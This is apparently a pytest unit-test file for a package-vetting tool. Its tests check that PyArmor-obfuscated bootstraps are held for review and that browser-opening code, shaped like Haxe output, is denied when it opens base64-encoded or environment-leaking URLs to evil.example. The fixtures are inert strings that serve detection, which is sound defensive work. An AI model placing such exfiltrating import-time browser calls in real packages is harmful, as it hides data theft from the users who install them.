"""Shapes of popular projects in the fourth corpus's calibration half (ADR 0134) that held,
each beside the malicious shape next to it (ADR 0135).

Every sample is inert and made here (vetting only reads files): a tracer that names
PyArmor's markers to skip obfuscated functions, beside PyArmor's real bootstrap; a module
Haxe generated, whose every import is ``__import__('name')``, showing a page in a browser,
beside a browser opened on an address written, decoded or opened on import."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.packedcode import is_pyarmor_code
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# ddtrace's ``internal/utils/obfuscation.py``, abridged: it names PyArmor's markers in a
# docstring, a comment and a set of strings, and never imports or calls the runtime.
TRACER = (
    '"""Best-effort detection of code objects protected by an obfuscator (e.g. PyArmor).\n\n'
    "This module only recognizes the case where the PyArmor runtime has injected its\n"
    '``__armor_enter__``/``__armor_exit__`` call wrapper around the function body.\n"""\n'
    "import sys\n"
    "# Legacy PyArmor calls ``__armor_enter__``; modern PyArmor uses pyarmor_runtime(...)\n"
    '_ARMOR_MARKERS = frozenset(("__armor_enter__", "__armor_exit__"))\n'
    '_RUNTIME_MODULE_PREFIXES = ("pytransform", "pyarmor_runtime")\n\n'
    "def is_obfuscated(code):\n"
    "    if _ARMOR_MARKERS.intersection(code.co_names):\n"
    "        return True\n"
    "    return any(m.startswith(_RUNTIME_MODULE_PREFIXES) for m in sys.modules)\n"
)
BLOB = "b'PY000000\\x00\\x03\\x0b\\x00\\x6f\\x0d\\x0d\\x0a'"
PYARMOR8 = (
    f"from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, {BLOB})\n"
)
PYARMOR7 = (
    "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
    f"__pyarmor__(__name__, __file__, {BLOB})\n"
)

HELD: Mapping[str, Mapping[str, str]] = {
    "pyarmor-8-bootstrap": init(PYARMOR8),
    "pyarmor-7-bootstrap": init(PYARMOR7),
    "pyarmor-loader-called-without-its-import": init(f"__pyarmor__(__name__, __file__, {BLOB})\n"),
    "pyarmor-runtime-imported-alone": init("import pytransform\n"),
    "pyarmor-bootstrap-beside-a-docstring": init(f'"""Names __armor_enter__."""\n{PYARMOR8}'),
    "pyarmor-in-a-module-that-does-not-parse": init(f"{PYARMOR8}def broken(:\n"),
}
ALLOWED: Mapping[str, Mapping[str, str]] = {
    "tracer-naming-pyarmor-markers": {"evpkg/obfuscation.py": TRACER, **init("")},
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases({}, HELD, ALLOWED))
def test_pyarmor_output_holds_and_a_mention_of_it_does_not(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected


def test_only_code_counts_as_pyarmor() -> None:
    assert not is_pyarmor_code(TRACER)
    assert is_pyarmor_code(PYARMOR8)
    assert is_pyarmor_code(PYARMOR7)


# daff 1.4.2 (Haxe's Python target), abridged: a diff written to a temporary file and shown.
SHOWN = (
    "class TableIO:\n"
    "    def sendToBrowser(self, html):\n"
    "        f = __import__('tempfile').NamedTemporaryFile('wb', delete=False, suffix='.html')\n"
    "        f.write(html.encode('utf-8', 'strict'))\n"
    "        f.close()\n"
    "        __import__('webbrowser').open({url})\n"
)
DECODED_URL = "__import__('base64').b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==').decode()"
ON_IMPORT = "import tempfile\nf = tempfile.NamedTemporaryFile('wb', delete=False)\n"

BROWSER_DENIED: Mapping[str, Mapping[str, str]] = {
    "decoded-address-opened-when-called": init(SHOWN.format(url=DECODED_URL)),
    "environment-sent-through-the-browser": init(
        SHOWN.format(url="'https://evil.example/?' + __import__('os').environ['HOME']")
    ),
    "decoded-address-opened-on-import": init(f"__import__('webbrowser').open({DECODED_URL})\n"),
    "page-opened-on-import": init(
        f"{ON_IMPORT}__import__('webbrowser').open('file://' + f.name)\n"
    ),
}
BROWSER_HELD: Mapping[str, Mapping[str, str]] = {
    "written-address-opened-when-called": init(SHOWN.format(url="'https://evil.example/x'")),
    "decoded-file-url-opened-when-called": init(
        SHOWN.format(url="'file://' + __import__('base64').b64decode('L3RtcC94').decode()")
    ),
}
BROWSER_ALLOWED: Mapping[str, Mapping[str, str]] = {
    "haxe-module-shows-a-temporary-page": init(SHOWN.format(url="'file://' + f.name")),
    "haxe-module-opens-the-callers-url": init(SHOWN.format(url="html")),
}


@pytest.mark.parametrize(
    ("files", "expected"), verdict_cases(BROWSER_DENIED, BROWSER_HELD, BROWSER_ALLOWED)
)
def test_a_browser_reached_by_a_written_import_name_is_no_hidden_endpoint(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected
